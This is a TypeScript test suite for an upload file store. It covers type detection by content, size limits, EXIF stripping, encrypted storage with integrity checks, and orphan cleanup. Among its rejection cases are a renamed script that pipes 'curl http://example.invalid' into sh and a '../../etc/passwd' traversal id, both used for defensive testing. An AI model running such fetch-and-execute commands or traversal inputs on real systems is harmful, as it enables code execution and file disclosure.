// The file store on both databases and both blob stores (the local disk and
// an S3 bucket, served by s3rver in this process: see support/s3.ts): uploads
// recognised by content, limited while they stream, cleaned, encrypted at
// rest, recorded all or nothing, and swept through the store's listing when
// a crash left them without a row.
import { randomBytes } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import sharp from 'sharp';
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest';
import type { BlobStore } from '../src/files/blob-store.ts';
import { S3Blobs } from '../src/files/s3-blobs.ts';
import {
  FileStore,
  type FileLimits,
  type StagedFile,
  type Upload,
} from '../src/files/files.service.ts';
import { ManualClock, systemClock, type Clock } from '../src/shared/clock.ts';
import { AppError } from '../src/shared/errors.ts';
import { SecretBox } from '../src/shared/secret-box.ts';
import {
  createTestDatabase,
  dialects,
  describeOn,
  tempDir,
  type TestDatabase,
} from './support/databases.ts';
import { startTestS3, type TestS3 } from './support/s3.ts';

const box = new SecretBox('a-test-secret-key-for-the-file-store-000');
const owner = { kind: 'report', id: 1 } as const;
const hour = 60 * 60 * 1000;

function chunksOf(bytes: Buffer, size = 16 * 1024): Readable {
  const chunks: Buffer[] = [];
  for (let at = 0; at < bytes.length; at += size) chunks.push(bytes.subarray(at, at + size));
  return Readable.from(chunks);
}

function upload(bytes: Buffer, fileName: string | null = null, field = 'evidence'): Upload {
  return { field, fileName, content: chunksOf(bytes) };
}

function image(width = 24, height = 16) {
  return sharp({ create: { width, height, channels: 3, background: '#1a7' } });
}

function pdf(text = 'a transfer receipt', end = '%%EOF\n'): Buffer {
  return Buffer.from(`%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n% ${text}\n${end}`, 'latin1');
}

async function errorOf(promise: Promise<unknown>): Promise<AppError> {
  try {
    await promise;
  } catch (error) {
    if (error instanceof AppError) return error;
    throw error;
  }
  throw new Error('expected an AppError, got none');
}

/** Chunks of `total` bytes starting with a JPEG signature, counting how many were pulled. */
function endlessJpeg(total: number, chunkSize = 64 * 1024) {
  const counter = { pulled: 0 };
  const iterator: AsyncIterator<Buffer> = {
    next() {
      if (counter.pulled * chunkSize >= total) {
        return Promise.resolve({ done: true, value: undefined });
      }
      const chunk = Buffer.alloc(chunkSize, 0x41);
      if (counter.pulled === 0) chunk.set([0xff, 0xd8, 0xff, 0xe0]);
      counter.pulled += 1;
      return Promise.resolve({ done: false, value: chunk });
    },
  };
  return { counter, content: { [Symbol.asyncIterator]: () => iterator } };
}

/** What a blob store really holds, read and written past cekrek. */
interface RawStore {
  names(): Promise<string[]>;
  read(name: string): Promise<Buffer>;
  write(name: string, bytes: Buffer): Promise<void>;
}

/** One kind of blob store: a fresh, empty one per test, and its raw view. */
interface StoreKind {
  readonly name: 'disk' | 's3';
  start(): Promise<void>;
  stop(): Promise<void>;
  /** `blobs` undefined: the FileStore's default, DATA_DIR/files. */
  create(dataDir: string, options?: { pageSize?: number }): { blobs?: BlobStore; raw: RawStore };
}

const diskStore: StoreKind = {
  name: 'disk',
  start: () => Promise.resolve(),
  stop: () => Promise.resolve(),
  create(dataDir) {
    const directory = join(dataDir, 'files');
    return {
      raw: {
        names: () => Promise.resolve(existsSync(directory) ? readdirSync(directory).sort() : []),
        read: (name) => Promise.resolve(readFileSync(join(directory, name))),
        write: (name, bytes) => Promise.resolve(writeFileSync(join(directory, name), bytes)),
      },
    };
  },
};

/** A bucket shared by the suite, a prefix of its own per store. */
function s3Store(): StoreKind {
  let s3: TestS3 | undefined;
  let bucket = '';
  return {
    name: 's3',
    async start() {
      s3 = await startTestS3();
      bucket = await s3.newBucket();
    },
    async stop() {
      await s3?.close();
    },
    create(_dataDir, options) {
      if (!s3) throw new Error('the S3 server is not started');
      const server = s3;
      const prefix = `evidence/${randomBytes(4).toString('hex')}/`;
      return {
        blobs: new S3Blobs(server.settings(bucket, prefix), options),
        raw: {
          names: async () =>
            (await server.raw.keys(bucket, prefix)).map((key) => key.slice(prefix.length)),
          read: (name) => server.raw.get(bucket, prefix + name),
          write: (name, bytes) => server.raw.put(bucket, prefix + name, bytes),
        },
      };
    },
  };
}

/** Waits past the next whole second: object stores date objects to the second. */
async function pastNextSecond(): Promise<Date> {
  const boundary = (Math.floor(Date.now() / 1000) + 1) * 1000;
  // A margin for file systems whose clock runs a tick behind.
  await new Promise((resolve) => setTimeout(resolve, boundary + 50 - Date.now()));
  return new Date(boundary);
}

for (const storeName of ['disk', 's3'] as const) {
  for (const dialect of dialects) {
    describeOn(dialect)(`file store on ${dialect}, files on ${storeName}`, () => {
      const kind = storeName === 'disk' ? diskStore : s3Store();
      let t: TestDatabase;
      const dirs: string[] = [];
      const opened: FileStore[] = [];
      const raws = new Map<FileStore, RawStore>();
      beforeAll(async () => {
        await kind.start();
        t = await createTestDatabase(dialect);
      });
      afterAll(async () => {
        await t?.close();
        await kind.stop();
      });
      afterEach(async () => {
        for (const store of opened.splice(0)) await store.close();
        for (const dir of dirs.splice(0)) rmSync(dir, { recursive: true, force: true });
      });

      function newStore(
        limits: Partial<FileLimits> = {},
        options: { clock?: Clock; pageSize?: number } = {},
      ): FileStore {
        const dataDir = tempDir('cekrek-files-');
        dirs.push(dataDir);
        const { blobs, raw } = kind.create(dataDir, { pageSize: options.pageSize });
        const clock = options.clock ?? systemClock;
        const store = new FileStore({ database: t.database, box, clock, dataDir, blobs }, limits);
        opened.push(store);
        raws.set(store, raw);
        return store;
      }

      function rawOf(store: FileStore): RawStore {
        const raw = raws.get(store);
        if (!raw) throw new Error('not a store of this suite');
        return raw;
      }

      function storedNames(store: FileStore): Promise<string[]> {
        return rawOf(store).names();
      }

      async function record(store: FileStore, staged: readonly StagedFile[]) {
        return t.database.db.transaction().execute((trx) => store.recordFiles(trx, owner, staged));
      }

      it('tells each accepted type by its content, not by its name', async () => {
        const store = newStore();
        const batch = store.batch();
        const jpeg = await batch.add(upload(await image().jpeg().toBuffer(), 'scan.pdf'));
        const png = await batch.add(upload(await image().png().toBuffer(), 'photo.jpg'));
        const webp = await batch.add(upload(await image().webp().toBuffer(), 'x.png'));
        const doc = await batch.add(upload(pdf(), 'photo.jpg'));
        expect([jpeg.mime, png.mime, webp.mime, doc.mime]).toEqual([
          'image/jpeg',
          'image/png',
          'image/webp',
          'application/pdf',
        ]);
        expect(png.originalName).toBe('photo.jpg');
        expect(await storedNames(store)).toEqual([jpeg.id, png.id, webp.id, doc.id].sort());
        await batch.discard();
        expect(await storedNames(store)).toEqual([]);
      });

      it('refuses a renamed executable or script, and writes nothing', async () => {
        const store = newStore();
        const elf = Buffer.concat([
          Buffer.from('\x7fELF\x02\x01\x01\0', 'latin1'),
          Buffer.alloc(64),
        ]);
        const exe = Buffer.concat([Buffer.from('MZ\x90\0\x03\0\0\0', 'latin1'), Buffer.alloc(64)]);
        const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');
        for (const bytes of [elf, exe, script]) {
          const error = await errorOf(store.stage(upload(bytes, 'bukti-transfer.jpg')));
          expect(error.code).toBe('unsupported_file_type');
        }
        expect(await storedNames(store)).toEqual([]);
      });

      it('refuses a PDF without %%EOF', async () => {
        const store = newStore();
        expect((await errorOf(store.stage(upload(pdf('cut short', ''))))).code).toBe(
          'unsupported_file_type',
        );
      });

      it('stores a photo without its EXIF, GPS position included', async () => {
        const store = newStore();
        const photo = await image()
          .jpeg()
          .withMetadata({
            exif: { IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '6/1 10/1 0/1' } },
          })
          .toBuffer();
        expect((await sharp(photo).metadata()).exif).toBeDefined();
        const staged = await store.stage(upload(photo, 'IMG_0001.jpg'));
        await record(store, [staged]);
        const stored = await store.open(staged.id);
        const meta = await sharp(stored.bytes).metadata();
        expect(meta.format).toBe('jpeg');
        expect(meta.exif).toBeUndefined();
        expect(stored.size).toBe(stored.bytes.length);
      });

      it('stops reading a file as soon as it passes the size limit', async () => {
        const store = newStore();
        const { counter, content } = endlessJpeg(50 * 1024 * 1024);
        const error = await errorOf(store.stage({ field: 'evidence', content }));
        expect(error.code).toBe('payload_too_large');
        // 5 MB in 64 KiB chunks is 80 of them: the 81st passes the limit, and no more is read.
        expect(counter.pulled).toBe(81);
        expect(await storedNames(store)).toEqual([]);
      });

      it('stops reading when the files of one submission pass their total', async () => {
        const store = newStore({ maxFileBytes: 1024 * 1024, maxRequestBytes: 1536 * 1024 });
        const batch = store.batch();
        await batch.add(upload(pdf('x'.repeat(900 * 1024))));
        const { counter, content } = endlessJpeg(900 * 1024, 64 * 1024);
        const error = await errorOf(batch.add({ field: 'evidence', content }));
        expect(error.code).toBe('payload_too_large');
        expect(counter.pulled).toBeLessThan(15);
        await batch.discard();
        expect(await storedNames(store)).toEqual([]);
      });

      it('refuses a file past the count, without reading it', async () => {
        const store = newStore();
        const batch = store.batch();
        for (let i = 0; i < 5; i += 1) await batch.add(upload(pdf(`page ${i}`)));
        const { counter, content } = endlessJpeg(1024);
        const error = await errorOf(batch.add({ field: 'evidence', content }));
        expect(error.code).toBe('too_many_files');
        expect(error.params).toEqual({ max: 5 });
        expect(counter.pulled).toBe(0);
        expect(await storedNames(store)).toHaveLength(5);
        await batch.discard();
        expect(await storedNames(store)).toEqual([]);
      });

      it('keeps files encrypted at rest, owner-only, and refuses altered or swapped ones', async () => {
        const store = newStore();
        const raw = rawOf(store);
        const marker = 'NIK 3171234567890001 belongs to nobody';
        const one = await store.stage(upload(pdf(marker)));
        const two = await store.stage(upload(pdf()));
        await record(store, [one, two]);
        // What the store really holds, read past cekrek: sealed, never the plaintext.
        const stored = await raw.read(one.id);
        expect(stored.subarray(0, 4).toString('latin1')).toBe('CKF1');
        expect(stored.includes(marker)).toBe(false);
        expect(stored.includes('%PDF')).toBe(false);
        if (kind.name === 'disk')
          expect(statSync(join(store.directory, one.id)).mode & 0o777).toBe(0o600);

        const opened = await store.open(one.id);
        expect(opened.bytes.toString('latin1')).toContain(marker);
        expect(opened).toMatchObject({ mime: 'application/pdf', ownerKind: 'report', ownerId: 1 });

        const altered = Buffer.from(stored);
        altered[altered.length - 20] = altered[altered.length - 20]! ^ 0x01;
        await raw.write(one.id, altered);
        await expect(store.open(one.id)).rejects.toThrow(/integrity/);

        await raw.write(one.id, await raw.read(two.id));
        await expect(store.open(one.id)).rejects.toThrow(/integrity/);
        expect((await store.open(two.id)).bytes.toString('latin1')).toContain('transfer receipt');
      });

      it('answers not_found for an unknown or malformed id', async () => {
        const store = newStore();
        expect((await errorOf(store.open('0'.repeat(32)))).code).toBe('not_found');
        expect((await errorOf(store.open('../../etc/passwd'))).code).toBe('not_found');
      });

      it('deletes the staged files when the transaction throws', async () => {
        const store = newStore();
        const batch = store.batch();
        await batch.add(upload(pdf('one')));
        await batch.add(upload(await image().png().toBuffer()));
        const staged = batch.files;
        expect(await storedNames(store)).toHaveLength(2);

        const failure = store.withStagedFiles(staged, (files) =>
          t.database.db.transaction().execute(async (trx) => {
            await store.recordFiles(trx, owner, files);
            throw new Error('the report could not be written');
          }),
        );
        await expect(failure).rejects.toThrow('the report could not be written');
        expect(await storedNames(store)).toEqual([]);
        const rows = await t.database.db
          .selectFrom('files')
          .select('id')
          .where(
            'id',
            'in',
            staged.map((f) => f.id),
          )
          .execute();
        expect(rows).toEqual([]);
      });

      it('keeps the files and their rows when the transaction commits', async () => {
        const store = newStore();
        const batch = store.batch();
        await batch.add(upload(pdf('first'), 'first.pdf'));
        await batch.add(upload(await image().jpeg().toBuffer(), 'second.jpg', 'idCardPhoto'));
        const owner = { kind: 'registration', id: 42 } as const;
        const recorded = await store.withStagedFiles(batch.files, (files) =>
          t.database.db.transaction().execute((trx) => store.recordFiles(trx, owner, files)),
        );
        expect(recorded.map((f) => f.position)).toEqual([0, 1]);
        const listed = await store.filesOf(owner);
        expect(listed.map((f) => [f.originalName, f.field, f.mime])).toEqual([
          ['first.pdf', 'evidence', 'application/pdf'],
          ['second.jpg', 'idCardPhoto', 'image/jpeg'],
        ]);
        expect(await storedNames(store)).toHaveLength(2);
      });

      it('sweeps old files without a row through the listing, and keeps recorded and recent ones', async () => {
        const clock = new ManualClock(new Date());
        const store = newStore({}, { clock });
        const raw = rawOf(store);
        const recorded = await store.stage(upload(pdf('recorded')));
        await record(store, [recorded]);
        const oldOrphan = await store.stage(upload(pdf('old orphan')));
        // Not names cekrek writes: left alone however old.
        const foreign = kind.name === 'disk' ? ['README'] : ['README', `nested/${'e'.repeat(32)}`];
        for (const name of foreign) await raw.write(name, Buffer.from('not cekrek'));
        // On disk, an unfinished write (the process stopped before the rename).
        const partial = `${'f'.repeat(32)}.partial`;
        if (kind.name === 'disk') await raw.write(partial, Buffer.from('half a file'));
        const boundary = await pastNextSecond();
        const freshOrphan = await store.stage(upload(pdf('fresh orphan')));

        // An hour after the boundary, with an hour's grace: whatever is older than it goes.
        clock.set(new Date(boundary.getTime() + hour - 1));
        const outcome = await store.sweepOrphans({ olderThanMs: hour });
        const partials = kind.name === 'disk' ? 1 : 0;
        expect(outcome).toEqual({ scanned: 3 + partials, deleted: 1 + partials, kept: 2 });
        expect(await storedNames(store)).toEqual([...foreign, freshOrphan.id, recorded.id].sort());
        expect((await store.open(recorded.id)).bytes.toString('latin1')).toContain('recorded');
        expect(oldOrphan.id).not.toBe(freshOrphan.id);
      });

      it('sweeps a listing of many pages', async () => {
        const store = newStore({}, { pageSize: 4 });
        const recorded = await store.stage(upload(pdf('recorded')));
        await record(store, [recorded]);
        const orphans = [];
        for (let i = 0; i < 9; i += 1) orphans.push(await store.stage(upload(pdf(`orphan ${i}`))));
        const outcome = await store.sweepOrphans({ olderThanMs: -hour });
        expect(outcome).toEqual({ scanned: 10, deleted: 9, kept: 1 });
        expect(await storedNames(store)).toEqual([recorded.id]);
      });

      it('sweeps nothing when the folder does not exist yet', async () => {
        expect(await newStore().sweepOrphans({ olderThanMs: hour })).toEqual({
          scanned: 0,
          deleted: 0,
          kept: 0,
        });
      });
    });
  }
}
